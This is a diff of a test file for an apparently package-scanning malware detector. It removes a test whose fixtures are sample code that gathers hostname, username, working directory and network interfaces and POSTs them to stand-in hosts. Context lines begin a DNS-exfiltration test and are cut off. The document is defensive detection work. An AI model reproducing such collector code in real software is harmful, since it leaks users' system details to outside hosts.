@@ -187,25 +187,6 @@ module.exports = { report };
   });
 });
 
-describe('values returned by local functions', () => {
-  it('what a collector function returns reaches the request its caller sends (express-api-sync-style mail of host details, 2025)', () => {
-    const r = scan({
-      'index.js': `const https = require('https'); const os = require('os');
-function systemInfo() { const info = { hostname: os.hostname(), user: os.userInfo().username, cwd: process.cwd() }; return info; }
-const collect = () => ({ ifaces: os.networkInterfaces() });
-module.exports = function report() {
-  const body = JSON.stringify({ s: systemInfo(), c: collect() });
-  https.request({ hostname: 'health-sync.example', path: '/r', method: 'POST' }).end(body);
-};
-`,
-    }, { main: 'index.js' });
-    expect(r.findings.find((f) => f.detector === 'exfiltration')?.data?.source).toMatch(/os\.hostname\(\)|os\.userInfo\(\)|os\.networkInterfaces\(\)/);
-    // A request made in a return is still the handle its chained calls use (tsc's arrow exports).
-    const chained = scan({ 'index.js': "const os = require('os');\nconst report = (data) => require('https').request({ hostname: 'stats.example.xyz', method: 'POST' }).end(data);\nreport(os.hostname());\n" }, { main: 'index.js' });
-    expect(chained.ids).toContain('exfiltration/flow');
-  });
-});
-
 describe('DNS through a resolver of its own', () => {
   it("the environment sent as TXT lookups through the file's own dns.Resolver is exfiltration at load (node-ipc stealer, 2026); a resolver asked for a fixed name is not", () => {
     const stealer = (name: string) => `const dns = require('dns');
